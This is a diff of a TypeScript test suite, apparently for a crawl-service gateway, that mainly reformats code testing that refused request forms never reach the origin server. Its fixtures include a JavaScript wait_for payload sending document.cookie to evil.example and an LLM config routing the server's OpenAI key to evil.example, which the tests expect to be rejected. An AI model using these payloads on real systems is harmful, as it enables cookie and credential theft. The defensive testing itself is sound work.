@@ -21,10 +21,12 @@ const seen: Array<{ path: string; body: string }> = [];
 const originSockets = new Set<Socket>();
 let sessionCounter = 0;
 
-
 function frame(opcode: number, payload: Buffer, mask: boolean): Buffer {
   const len = payload.length;
-  const head = len < 126 ? Buffer.from([0x80 | opcode, (mask ? 0x80 : 0) | len]) : Buffer.from([0x80 | opcode, (mask ? 0x80 : 0) | 126, len >> 8, len & 0xff]);
+  const head =
+    len < 126
+      ? Buffer.from([0x80 | opcode, (mask ? 0x80 : 0) | len])
+      : Buffer.from([0x80 | opcode, (mask ? 0x80 : 0) | 126, len >> 8, len & 0xff]);
   if (!mask) return Buffer.concat([head, payload]);
   const key = randomBytes(4);
   const body = Buffer.from(payload.map((b, i) => b ^ (key[i % 4] as number)));
@@ -86,8 +88,12 @@ function startOrigin(): Promise<number> {
   origin.on('upgrade', (req, socket: Socket) => {
     originSockets.add(socket);
     const key = String(req.headers['sec-websocket-key'] ?? '');
-    const accept = createHash('sha1').update(key + '258EAFA5-E914-47DA-95CA-C5AB0DC85B11').digest('base64');
-    socket.write(`HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ${accept}\r\n\r\n`);
+    const accept = createHash('sha1')
+      .update(key + '258EAFA5-E914-47DA-95CA-C5AB0DC85B11')
+      .digest('base64');
+    socket.write(
+      `HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ${accept}\r\n\r\n`,
+    );
     let buf: Buffer = Buffer.alloc(0);
     socket.on('data', (d: Buffer) => {
       const r = readFrames(Buffer.concat([buf, d]));
@@ -106,11 +112,15 @@ function startOrigin(): Promise<number> {
 }
 
 /** A minimal WebSocket client (Node 20 has none built in). */
-async function openSocket(urlPath: string): Promise<{ send: (text: string) => void; next: () => Promise<{ opcode: number; text: string }>; close: () => void }> {
+async function openSocket(
+  urlPath: string,
+): Promise<{ send: (text: string) => void; next: () => Promise<{ opcode: number; text: string }>; close: () => void }> {
   const u = new URL(base + urlPath);
   const socket = net.connect(Number(u.port), u.hostname);
   const key = randomBytes(16).toString('base64');
-  socket.write(`GET ${urlPath} HTTP/1.1\r\nHost: ${u.host}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: ${key}\r\nSec-WebSocket-Version: 13\r\nX-API-Key: ${KEY}\r\n\r\n`);
+  socket.write(
+    `GET ${urlPath} HTTP/1.1\r\nHost: ${u.host}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: ${key}\r\nSec-WebSocket-Version: 13\r\nX-API-Key: ${KEY}\r\n\r\n`,
+  );
   const queue: Array<{ opcode: number; text: string }> = [];
   const waiters: Array<(f: { opcode: number; text: string }) => void> = [];
   let buf: Buffer = Buffer.alloc(0);
@@ -147,8 +157,26 @@ async function openSocket(urlPath: string): Promise<{ send: (text: string) => vo
 
 beforeAll(async () => {
   const originPort = await startOrigin();
-  const apiKeys = JSON.stringify({ crawler: { key: KEY, name: 'crawler', rate_limit: '1000/minute', scopes: ['crawl:run', 'crawl:screenshot', 'crawl:pdf', 'jobs:write', 'jobs:read'] } });
-  server = await startDevServer({ vars: { ...TEST_VARS, ENVIRONMENT: 'development', TRUSTED_HOSTS: '', API_KEYS: apiKeys, ORIGIN_URL: `http://127.0.0.1:${originPort}`, ORIGIN_PROFILE: 'crawl4ai-0.8' }, persistPrefix: 'cg-opts-', readyTimeoutMs: 240_000 });
+  const apiKeys = JSON.stringify({
+    crawler: {
+      key: KEY,
+      name: 'crawler',
+      rate_limit: '1000/minute',
+      scopes: ['crawl:run', 'crawl:screenshot', 'crawl:pdf', 'jobs:write', 'jobs:read'],
+    },
+  });
+  server = await startDevServer({
+    vars: {
+      ...TEST_VARS,
+      ENVIRONMENT: 'development',
+      TRUSTED_HOSTS: '',
+      API_KEYS: apiKeys,
+      ORIGIN_URL: `http://127.0.0.1:${originPort}`,
+      ORIGIN_PROFILE: 'crawl4ai-0.8',
+    },
+    persistPrefix: 'cg-opts-',
+    readyTimeoutMs: 240_000,
+  });
   base = server.base;
 }, 300_000);
 
@@ -159,19 +187,38 @@ afterAll(async () => {
   await new Promise((r) => origin?.close(r));
 });
 
-const post = (p: string, body: string) => fetch(base + p, { method: 'POST', headers: { 'X-API-Key': KEY, 'Content-Type': 'application/json' }, body });
+const post = (p: string, body: string) =>
+  fetch(base + p, { method: 'POST', headers: { 'X-API-Key': KEY, 'Content-Type': 'application/json' }, body });
 
-const JS_WAIT = { urls: ['https://example.com/'], crawler_config: { type: 'CrawlerRunConfig', params: { wait_for: '() => { fetch("https://evil.example/" + document.cookie); return true }' } } };
+const JS_WAIT = {
+  urls: ['https://example.com/'],
+  crawler_config: {
+    type: 'CrawlerRunConfig',
+    params: { wait_for: '() => { fetch("https://evil.example/" + document.cookie); return true }' },
+  },
+};
 const ENV_KEY = {
   urls: ['https://example.com/'],
   crawler_config: {
     type: 'CrawlerRunConfig',
-    params: { extraction_strategy: { type: 'LLMExtractionStrategy', params: { llm_config: { type: 'LLMConfig', params: { provider: 'openai/gpt-4o', api_token: 'env:OPENAI_API_KEY', base_url: 'https://evil.example/v1' } } } } },
+    params: {
+      extraction_strategy: {
+        type: 'LLMExtractionStrategy',
+        params: {
+          llm_config: {
+            type: 'LLMConfig',
+            params: { provider: 'openai/gpt-4o', api_token: 'env:OPENAI_API_KEY', base_url: 'https://evil.example/v1' },
+          },
+        },
+      },
+    },
   },
 };
 /** Python's json accepts NaN; JSON.parse does not. Duplicate keys: each side keeps a different one. */
-const PY_ONLY = '{"urls":["https://example.com/"],"crawler_config":{"type":"CrawlerRunConfig","params":{"page_timeout":NaN,"js_code":"x()"}}}';
-const DUP = '{"urls":["https://example.com/"],"crawler_config":{"type":"CrawlerRunConfig","params":{"wait_for":"css:div","wait_for":"() => 1"}}}';
+const PY_ONLY =
+  '{"urls":["https://example.com/"],"crawler_config":{"type":"CrawlerRunConfig","params":{"page_timeout":NaN,"js_code":"x()"}}}';
+const DUP =
+  '{"urls":["https://example.com/"],"crawler_config":{"type":"CrawlerRunConfig","params":{"wait_for":"css:div","wait_for":"() => 1"}}}';
 const BIG = '{"urls":["https://example.com/"],"crawler_config":{"type":"CrawlerRunConfig","params":{"page_timeout":1e400}}}';
 
 function refusedForms(args: (b: Record<string, unknown>) => Record<string, unknown>): Array<[string, string]> {
@@ -220,7 +267,8 @@ describe('refused forms never reach the origin', () => {
     while (!/session_id=([0-9a-f]{32})/.test(text)) text += (await reader.read()).value ?? '';
     const session = /session_id=([0-9a-f]{32})/.exec(text)![1];
     const before = seen.length;
-    const call = (args: Record<string, unknown>) => JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'crawl', arguments: args } });
+    const call = (args: Record<string, unknown>) =>
+      JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'crawl', arguments: args } });
     const bodies = [
       ...refusedForms((b) => b).map(([, b]) => call(JSON.parse(b))),
       `{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"crawl","arguments":{"urls":["https://example.com/"],"crawler_config":{"type":"CrawlerRunConfig","params":{"page_timeout":NaN}}}}}`,
@@ -237,13 +285,16 @@ describe('refused forms never reach the origin', () => {
   it('over the MCP WebSocket: JSON-RPC errors, and close 1007 after repeated unreadable messages', async () => {
     const ws = await openSocket('/mcp/ws');
     const before = seen.length;
-    const call = (args: unknown) => JSON.stringify({ jsonrpc: '2.0', id: 9, method: 'tools/call', params: { name: 'crawl', arguments: args } });
+    const call = (args: unknown) =>
+      JSON.stringify({ jsonrpc: '2.0', id: 9, method: 'tools/call', params: { name: 'crawl', arguments: args } });
     ws.send(call(JS_WAIT));
     expect(JSON.parse((await ws.next()).text)).toMatchObject({ id: 9, error: { data: { code: 'insufficient_scope' } } });
     ws.send(call(ENV_KEY));
     expect(JSON.parse((await ws.next()).text)).toMatchObject({ id: 9, error: { code: -32602, data: { code: 'validation_failed' } } });
     for (let i = 0; i < 3; i++) {
-      ws.send(`{"jsonrpc":"2.0","id":${i},"method":"tools/call","params":{"name":"crawl","arguments":{"urls":["https://example.com/"],"x":NaN}}}`);
+      ws.send(
+        `{"jsonrpc":"2.0","id":${i},"method":"tools/call","params":{"name":"crawl","arguments":{"urls":["https://example.com/"],"x":NaN}}}`,
+      );
       expect(JSON.parse((await ws.next()).text)).toMatchObject({ error: { code: -32700 } });
     }
     const closing = await ws.next();
